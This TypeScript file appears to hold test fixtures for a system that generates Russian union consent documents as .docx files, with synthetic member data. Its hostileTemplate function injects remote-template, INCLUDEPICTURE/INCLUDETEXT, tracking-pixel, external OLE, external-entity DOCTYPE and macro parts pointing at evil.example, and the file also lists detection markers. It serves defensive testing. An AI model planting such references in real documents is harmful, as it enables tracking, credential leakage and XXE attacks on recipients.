/**
 * Shared fixtures of the document tests and the benchmark (not a test file itself).
 * The card operator's ИНН and address here are test values: the real ones are set by the
 * administrator in config/documents.json.
 */
import fs from 'node:fs';
import JSZip from 'jszip';
import { parseDocumentsConfig, DEFAULT_DOCUMENTS_CONFIG_PATH, type DocumentsConfig } from './config';
import type { ConsentMember, ConsentOrganisation, ConsentTemplates } from './consents';
import { readTemplateFile } from './templates';
import { extractText } from './xml';

export function testConfig(): DocumentsConfig {
  const raw = JSON.parse(fs.readFileSync(DEFAULT_DOCUMENTS_CONFIG_PATH, 'utf8'));
  raw.operators.card_operator.inn = '7830002293';
  raw.operators.card_operator.address = '190000, г. Санкт-Петербург, ул. Тестовая, д. 1';
  return parseDocumentsConfig(raw);
}

export const TEST_ORG: ConsentOrganisation = {
  unionName: 'Первичная профсоюзная организация МБОУ «Средняя общеобразовательная школа № 17» г. Кирова Общероссийского Профсоюза образования',
  legalAddress: '610000, г. Киров, ул. Ленина, д. 100',
  superiors: [
    { name: 'Кировская городская территориальная организация Общероссийского Профсоюза образования', address: '610000, г. Киров, ул. Карла Либкнехта, д. 69' },
    { name: 'Кировская областная организация Общероссийского Профсоюза образования', address: '610000, г. Киров, ул. Карла Либкнехта, д. 69' },
    { name: 'Общероссийский Профсоюз образования', address: '119119, г. Москва, Ленинский проспект, д. 42' },
  ],
};

export function consentTemplates(): ConsentTemplates {
  return {
    union: readTemplateFile('consent-union'),
    operator: readTemplateFile('consent-operator'),
    notify: readTemplateFile('consent-notify'),
    'union-minor': readTemplateFile('consent-union-minor'),
    'operator-minor': readTemplateFile('consent-operator-minor'),
    'notify-minor': readTemplateFile('consent-notify-minor'),
  };
}

const SURNAMES = ['Иванова', 'Петров', 'Смирнова', 'Кузнецов', 'Соловьёва', 'Попов', 'Ёлкина', 'Васильев', 'Фёдорова', 'Новиков'];
const NAMES = ['Алёна', 'Сергей', 'Мария', 'Пётр', 'Наталья', 'Артём', 'Ольга', 'Дмитрий', 'Светлана', 'Игорь'];
const PATRONYMICS = ['Петровна', 'Иванович', 'Сергеевна', 'Алексеевич', 'Андреевна', 'Николаевич', null, 'Викторович', 'Олеговна', 'Юрьевич'];

/** Deterministic synthetic members; every third has no address or ID document (blank lines expected). */
export function syntheticMembers(count: number): ConsentMember[] {
  return Array.from({ length: count }, (_, i) => ({
    id: `${(0x10000000 + i * 7919).toString(16)}-4a1b-4c2d-8e3f-${String(i).padStart(12, '0')}`,
    surname: SURNAMES[i % 10],
    name: NAMES[(i * 3) % 10],
    patronymic: PATRONYMICS[(i * 7) % 10],
    address: i % 3 === 0 ? null : `610017, г. Киров, ул. Московская, д. ${(i % 120) + 1}, кв. ${(i % 80) + 1}`,
    idDocument: i % 3 === 0 ? null : `паспорт 33 1${i % 10} ${String(100000 + i).slice(-6)}, выдан УМВД России по Кировской области ${String((i % 28) + 1).padStart(2, '0')}.03.2015`,
    phone: i % 4 === 0 ? null : `+7912${String(1000000 + i).slice(-7)}`,
    email: i % 5 === 0 ? null : `member${i}@example.ru`,
  }));
}

/** The main document part of a .docx. */
export async function documentXml(docx: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(docx);
  return zip.file('word/document.xml')!.async('string');
}

/** Visible text of a .docx (paragraphs separated by newlines). */
export async function documentText(docx: Buffer): Promise<string> {
  return extractText(await documentXml(docx));
}

/**
 * Splits a batch's body into its documents: a document ends with a paragraph that carries
 * section properties (a section break), the last one with the body's own section properties.
 */
export function splitDocuments(xml: string): string[] {
  const body = xml.slice(xml.indexOf('<w:body>') + '<w:body>'.length, xml.lastIndexOf('</w:body>'));
  const parts: string[] = [];
  let from = 0;
  for (let at = body.indexOf('</w:sectPr></w:pPr>'); at >= 0; at = body.indexOf('</w:sectPr></w:pPr>', at + 1)) {
    const end = body.indexOf('</w:p>', at) + '</w:p>'.length;
    parts.push(body.slice(from, end));
    from = end;
  }
  parts.push(body.slice(from));
  return parts.filter((p) => p.includes('<w:t'));
}

/** Throws unless every tag is closed in order (enough to catch broken splicing of XML). */
export function assertWellFormed(xml: string): void {
  const stack: string[] = [];
  const re = /<(\/?)([A-Za-z_][\w.:-]*)((?:\s+[\w.:-]+\s*=\s*"[^"<]*")*)\s*(\/?)>|<\?[^>]*\?>|<!--[\s\S]*?-->|<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(xml))) {
    if (m[0] === '<' || m[0] === '&') throw new Error(`stray ${m[0]} at ${m.index}: ${xml.slice(Math.max(0, m.index - 60), m.index + 60)}`);
    if (!m[2]) continue;
    if (m[4]) continue;
    if (m[1]) {
      const open = stack.pop();
      if (open !== m[2]) throw new Error(`</${m[2]}> closes <${open}> at ${m.index}`);
    } else stack.push(m[2]);
  }
  if (stack.length) throw new Error(`unclosed: ${stack.join(' > ')}`);
}

/** What a hostile template carries (issue 15, hole 6). */
export type HostileContent = 'attachedTemplate' | 'includePicture' | 'includeText' | 'externalImage' | 'externalOle' | 'doctype' | 'macros';
export const HOSTILE_CONTENT: readonly HostileContent[] = ['attachedTemplate', 'includePicture', 'includeText', 'externalImage', 'externalOle', 'doctype', 'macros'];
/** Where the hostile references point: none of these may appear in a printed document. */
export const HOSTILE_MARKERS = ['evil.example', 'INCLUDEPICTURE', 'INCLUDETEXT', 'DOCTYPE', 'vbaProject', 'attachedTemplate', 'TargetMode="External"'];

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

/** A shipped template with hostile content added, as a hostile or careless Word user could save it. */
export async function hostileTemplate(base: Buffer, what: readonly HostileContent[]): Promise<Buffer> {
  const zip = await JSZip.loadAsync(base);
  const text = async (name: string) => zip.file(name)!.async('string');
  let doc = await text('word/document.xml');
  let docRels = await text('word/_rels/document.xml.rels');
  const addRel = (r: string) => {
    docRels = docRels.replace('</Relationships>', `${r}</Relationships>`);
  };
  const addParagraph = (p: string) => {
    doc = doc.replace(/(<w:sectPr\b(?:(?!<w:sectPr\b)[\s\S])*<\/w:body>)/, `${p}$1`);
  };
  for (const w of what) {
    if (w === 'attachedTemplate') {
      zip.file('word/settings.xml', (await text('word/settings.xml')).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdEvil1"/>'));
      zip.file('word/_rels/settings.xml.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rIdEvil1', `${REL}/attachedTemplate`, 'http://evil.example/template.dotm')}</Relationships>`);
    } else if (w === 'includePicture') {
      addParagraph('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[картинка]</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>');
    } else if (w === 'includeText') {
      addParagraph('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\text.docx&quot; "><w:r><w:t>[вставленный текст]</w:t></w:r></w:fldSimple></w:p>');
    } else if (w === 'externalImage') {
      addRel(rel('rIdEvil2', `${REL}/image`, 'http://evil.example/pixel.png'));
      addParagraph('<w:p><w:r><w:pict><v:shape id="evil" style="width:1pt;height:1pt"><v:imagedata r:id="rIdEvil2" o:title=""/></v:shape></w:pict></w:r></w:p>');
    } else if (w === 'externalOle') {
      addRel(rel('rIdEvil3', `${REL}/oleObject`, 'file://evil.example/share/book.xlsx'));
      addParagraph('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="evil" DrawAspect="Content" r:id="rIdEvil3" UpdateMode="Always"/></w:object></w:r></w:p>');
    } else if (w === 'doctype') {
      const styles = await text('word/styles.xml');
      zip.file('word/styles.xml', styles.replace(/^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE w:styles [<!ENTITY evil SYSTEM "http://evil.example/entity">]>'));
    } else if (w === 'macros') {
      zip.file('word/vbaProject.bin', Buffer.from('\xd0\xcf\x11\xe0 not really a macro project', 'latin1'));
      addRel(rel('rIdEvil4', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin', false));
      zip.file('[Content_Types].xml', (await text('[Content_Types].xml')).replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'));
    }
  }
  zip.file('word/document.xml', doc);
  zip.file('word/_rels/document.xml.rels', docRels);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}
